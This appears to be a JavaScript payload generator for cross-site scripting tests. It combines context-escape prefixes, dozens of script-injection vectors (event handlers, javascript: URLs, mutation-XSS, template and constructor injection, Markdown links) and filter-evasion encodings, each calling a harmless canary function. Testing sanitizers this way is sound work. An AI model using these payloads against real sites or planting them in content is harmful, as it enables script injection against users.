// Texts that would run as script if a page took them for more than text. Each calls canary(number).
//
// A grammar: how one leaves the place that the text stands in, what runs then, and how it is written.

// Out of an element, an attribute, a script, a comment, a cell, a template, a fence of Markdown.
const ways = ["", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", "</svg>", '"}]}</script>', "{{/each}}",
  "```\n", "\r\n\r\n", "=1+1,\"", "&quot;&gt;", "\u2028"];

const vectors = [
  (n) => `<script>canary(${n})</script>`,
  (n) => `<img src=x onerror=canary(${n})>`,
  (n) => `<svg onload=canary(${n})>`,
  (n) => `<svg><script>canary(${n})</script></svg>`,
  (n) => `<svg><animate onbegin=canary(${n}) attributeName=x dur=1s>`,
  (n) => `<svg><a xlink:href="javascript:canary(${n})"><text y=20>go</text></a></svg>`,
  (n) => `<details open ontoggle=canary(${n})>x</details>`,
  (n) => `<iframe srcdoc="<script>parent.canary(${n})</script>"></iframe>`,
  (n) => `<iframe src="javascript:parent.canary(${n})"></iframe>`,
  (n) => `<a href="javascript:canary(${n})">go</a>`,
  (n) => `<a href="jav&#x09;ascript:canary(${n})">go</a>`,
  (n) => `<input autofocus onfocus=canary(${n})>`,
  (n) => `" autofocus onfocus="canary(${n})" x="`,
  (n) => `' autofocus onfocus='canary(${n})' x='`,
  (n) => `" onmouseover="canary(${n})`,
  (n) => `x onerror=canary(${n}) src=x`,
  (n) => `<video><source onerror=canary(${n})></video>`,
  (n) => `<audio src=x onerror=canary(${n})></audio>`,
  (n) => `<body onload=canary(${n})>`,
  (n) => `<object data="javascript:canary(${n})"></object>`,
  (n) => `<embed src="javascript:canary(${n})">`,
  (n) => `<meta http-equiv=refresh content="0;url=javascript:canary(${n})">`,
  (n) => `<form><button formaction="javascript:canary(${n})">go</button></form>`,
  (n) => `<link rel=stylesheet href=data:text/css,x onload=canary(${n})>`,
  (n) => `<style onload=canary(${n})>x{}</style>`,
  (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=canary(${n})>">`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=canary(${n})>">`,
  (n) => `<template><img src=x onerror=canary(${n})></template>`,
  (n) => `<base href="javascript:canary(${n})//">`,
  (n) => `[go](javascript:canary(${n}))`,
  (n) => `[go](<javascript:canary(${n})>)`,
  (n) => `![x](x" onerror="canary(${n}))`,
  (n) => `[go](data:text/html,<script>opener.canary(${n})</script>)`,
  (n) => `<javascript:canary(${n})>`,
  (n) => `[a]: javascript:canary(${n})\n\n[a]`,
  (n) => `javascript:canary(${n})`,
  (n) => `\${canary(${n})}`,
  (n) => `';canary(${n});//`,
  (n) => `";canary(${n});//`,
  (n) => `{{@x}}{{{<script>canary(${n})</script>}}}`,
  (n) => `constructor.constructor('canary(${n})')()`,
];

const writings = [
  (text) => text,
  (text) => text.replace(/script|img|svg|iframe/gi, (word) => [...word].map((c, i) => (i % 2 ? c.toUpperCase() : c)).join("")),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replace(/</g, "%3C").replace(/>/g, "%3E"),
  (text) => text.replace(/</g, "\\u003c").replace(/>/g, "\\u003e"),
  (text) => text.replace(/</g, "&#x3c;").replace(/>/g, "&#62"),
  (text) => text.replace(/<(\w)/g, "<\u0000$1").replace(/\u0000/g, "/"),
  (text) => text.replace(/ on/g, "\ton"),
];

// All combinations in an order of their own; the first `count` are spread over the whole grammar.
export const payloads = (count) => {
  const all = ways.length * vectors.length * writings.length;
  const step = 2297; // has no factor in common with their number
  return Array.from({ length: count }, (_, n) => {
    const at = (n * step + 17) % all;
    const vector = vectors[at % vectors.length];
    const way = ways[Math.floor(at / vectors.length) % ways.length];
    const writing = writings[Math.floor(at / vectors.length / ways.length)];
    // Half of them as they are: what is written otherwise is mostly text already.
    return way + (n % 2 ? vector(n) : writing(vector(n)));
  });
};
